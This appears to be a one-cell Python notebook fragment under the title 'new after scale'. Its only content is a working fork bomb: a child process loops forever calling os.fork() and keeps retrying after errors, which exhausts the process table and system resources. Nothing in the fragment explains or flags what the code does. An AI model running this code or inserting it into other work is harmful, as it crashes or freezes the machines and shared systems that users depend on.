# %% new after scale
import os, time

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
